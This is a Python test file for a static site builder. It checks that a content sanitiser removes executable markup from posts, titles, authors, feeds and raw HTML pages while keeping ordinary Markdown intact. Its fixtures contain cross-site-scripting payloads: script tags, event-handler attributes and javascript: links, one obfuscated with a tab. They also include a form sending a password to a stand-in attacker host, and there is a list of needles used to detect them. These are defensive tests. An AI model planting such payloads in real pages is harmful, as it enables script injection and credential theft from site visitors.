"""Real builds: nothing that can run code reaches the output, and ordinary Markdown comes through whole."""

import xml.etree.ElementTree as ET

import pytest
from bs4 import BeautifulSoup
from test_content_safety_sanitiser import REPRESENTATIVE

import inmind.build

HOSTILE_BODY = """\
Hello, readers.

<script>alert('body')</script>

<p onclick="alert('click')" style="color: red">Press me</p>

Read [the report](javascript:alert('link')) or [this one](JAVASCRIPT:alert('upper')).

<a href="java&#x09;script:alert('tab')">tabbed</a>

A paragraph with an attribute list.
{: onmouseover="alert('attr')" }

<style>body { display: none }</style>

<form action="https://evil.example/collect"><input name="password"><button>Send</button></form>

<img src="x.png" alt="A picture" onerror="alert('img')">

<svg><script>alert('svg')</script></svg>
"""
HOSTILE = f"""\
Title: A hostile post <script>alert('title')</script>
Date: 2019-05-01 09:00
Author: Communications Team
Summary: A summary <img src=x onerror="alert('summary')"> with [a link](javascript:alert('summary-link')).
Slug: hostile

{HOSTILE_BODY}"""
NEEDLES = ("alert(", "onclick", "onmouseover", "onerror", "javascript:", "evil.example", "display: none",
           'style="color')


@pytest.fixture
def without_checks(monkeypatch):
    """Build even though the editorial checks would stop it: the sanitiser must still hold on its own."""
    monkeypatch.setattr(inmind.build, "preflight", lambda settings, fatal_warnings=False, sources=None: [])


def _markup_of(text):
    """Return what can run or load in a page: tag and attribute names, addresses, styles and scripts, no words."""
    doc = BeautifulSoup(text, "html.parser")
    parts = []
    for tag in doc.find_all(True):
        parts.append(f"<{tag.name} {' '.join(tag.attrs)}>")
        parts.extend(str(tag.get(name, "")) for name in ("href", "src", "action", "style"))
        if tag.name in ("script", "style") and tag.get("type") != "application/ld+json":
            parts.append(tag.get_text())
    return " ".join(parts)


def test_nothing_hostile_reaches_any_output_file(build_site, without_checks):
    site = build_site({"blog/2019/hostile.md": HOSTILE})
    assert site.status == 0, site.messages
    article = site.output / "blog" / "2019" / "hostile" / "index.html"
    assert article.exists()
    for path in site.output.rglob("*"):
        if path.is_file() and path.suffix in (".html", ".xml", ".json", ".txt"):
            text = path.read_text(encoding="utf-8", errors="replace")
            # Metadata is text: its words may show (escaped), but never as a tag, attribute, address or script.
            if path.suffix == ".html":
                markup = _markup_of(text)
            elif path.suffix == ".xml" and "<feed" in text:
                # A feed's text is text; only the HTML it carries (summary, content) can hold markup.
                markup = " ".join(_markup_of(e.text or "") for e in ET.fromstring(text).iter() if e.get("type") == "html")
            else:
                markup = text
            markup = markup.lower()
            for needle in NEEDLES:
                assert needle not in markup, f"{needle!r} in {path.relative_to(site.output)}"
    prose = site.soup(article).select_one(".app-prose")
    assert prose.find_all(["script", "style", "iframe", "form", "input", "svg"]) == []
    assert "Hello, readers." in prose.get_text()
    assert prose.find("img", alt="A picture") is not None
    assert "alert(" not in prose.get_text()  # the body's scripts are removed, not shown


def test_an_iframe_is_removed_even_without_the_video_plugin(build_site, without_checks):
    from inmind.build import load_settings

    plugins = [p for p in load_settings("pelicanconf.py")["PLUGINS"] if p != "video_embeds"]
    site = build_site({"blog/2019/frame.md": HOSTILE.replace("Hello, readers.", "<iframe src='https://evil.example/'>"
                                                             "</iframe>\n\nHello, readers.")}, PLUGINS=plugins)
    assert site.status == 0, site.messages
    html = (site.output / "blog" / "2019" / "hostile" / "index.html").read_text(encoding="utf-8")
    assert "<iframe" not in html and "evil.example" not in html


def test_an_author_with_html_is_only_text(build_site, without_checks):
    site = build_site({"blog/2019/hostile.md": HOSTILE.replace("Author: Communications Team",
                                                               "Author: Sam <img src=x onerror=alert('author')>")})
    for path in site.output.rglob("*.html"):
        assert "onerror" not in path.read_text(encoding="utf-8"), path


def test_the_title_is_shown_as_the_text_it_is(build_site, without_checks):
    site = build_site({"blog/2019/hostile.md": HOSTILE})
    doc = site.soup("blog/2019/hostile/index.html")
    h1 = doc.find("h1")
    assert h1.get_text(strip=True) == "A hostile post <script>alert('title')</script>"
    assert h1.find_all(True) == []
    assert doc.find("title").get_text().startswith("A hostile post <script>")
    assert len(doc.find_all("script", src=False, type=lambda t: t != "application/ld+json")) == 0


def test_ordinary_markdown_comes_through_whole(build_site):
    # A built post names its picture the way the site resolves ({static}); a relative address is refused.
    body = REPRESENTATIVE.replace("../images/ward-garden.svg", "{static}/images/ward-garden.svg")
    site = build_site({"blog/2019/rich.md": f"""\
Title: A rich post
Date: 2019-05-01 09:00
Author: Communications Team
Summary: A post that uses every kind of Markdown the site supports.
Slug: rich

{body}""", "images/ward-garden.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 480"><rect width="640" height="480" fill="#007f3b"/></svg>'})
    assert site.status == 0, site.messages
    prose = site.soup("blog/2019/rich/index.html").select_one(".app-prose")
    assert prose.find("h2", id="a-heading-more") is not None
    assert prose.find("h3", id="custom-id") is not None
    assert prose.find("sup", id="fnref:1").find("a", class_="footnote-ref")["href"] == "#fn:1"
    assert prose.find("div", class_="footnote").find("li", id="fn:1") is not None
    assert prose.find("a", class_="footnote-backref")["href"] == "#fnref:1"
    assert prose.find("abbr", title="Hyper Text Markup Language").get_text() == "HTML"
    assert prose.find("details").find("summary").get_text() == "Read the transcript"
    assert prose.find("table").find("td").get_text() == "Life Rooms"
    assert prose.find("img")["alt"] == "Volunteers planting the ward garden"
    assert prose.find("code", class_="language-python") is not None
    assert prose.find("dl").find("dt").get_text() == "Term"
    assert prose.find("a", href="mailto:communications@example.nhs.uk") is not None
    assert [li.get_text(strip=True) for li in prose.select("ol:not(.footnote ol) > li")] == ["first", "second"]


def test_external_links_in_content_get_noopener(build_site):
    site = build_site({"blog/2019/links.md": """\
Title: Links
Date: 2019-05-01 09:00
Author: Communications Team
Summary: Links that go elsewhere and links that stay.

Read [the annual report](https://www.example.nhs.uk/report) or [about this site]({filename}/pages/about.md).
""", "pages/about.md": "Title: About\nSummary: About the site.\n\nAbout us.\n"})
    assert site.status == 0, site.messages
    prose = site.soup("blog/2019/links/index.html").select_one(".app-prose")
    assert prose.find("a", href="https://www.example.nhs.uk/report")["rel"] == ["noopener"]
    internal = prose.find("a", string="about this site")
    assert internal["href"].endswith("about/") and not internal.get("rel")


def test_the_checks_stop_the_build_first_with_the_line(build_site):
    site = build_site({"blog/2019/hostile.md": HOSTILE})
    assert site.status == 1
    assert "hostile.md:9: error: <script> element and everything inside it will be removed [html-removed]" \
        in site.messages
    assert "hostile.md:1: error: the title contains HTML" in site.messages
    assert "Traceback" not in site.messages
    assert not (site.output / "blog").exists()


def test_a_wrong_setting_stops_the_build_naming_the_key(build_site):
    site = build_site({"blog/2019/a.md": "Title: A\nDate: 2019-05-01\nAuthor: Communications Team\nSummary: S.\n\nText.\n"},
                      CONTENT_SAFETY={"extra_tags": ["iframe"]})
    assert site.status == 1
    assert "CONTENT_SAFETY['extra_tags'] cannot allow <iframe>" in site.messages
    assert "Traceback" not in site.messages


def test_html_content_files_are_sanitised_too(build_site, without_checks):
    site = build_site({"pages/raw.html": """<html><head><title>Raw page</title>
<meta name="summary" content="A page written in HTML."></head>
<body><p onclick="alert('html')">Hello</p><script>alert('html2')</script></body></html>"""})
    assert site.status == 0, site.messages
    html = (site.output / "raw-page" / "index.html").read_text(encoding="utf-8")
    assert "alert(" not in html and "Hello" in BeautifulSoup(html, "html.parser").get_text()
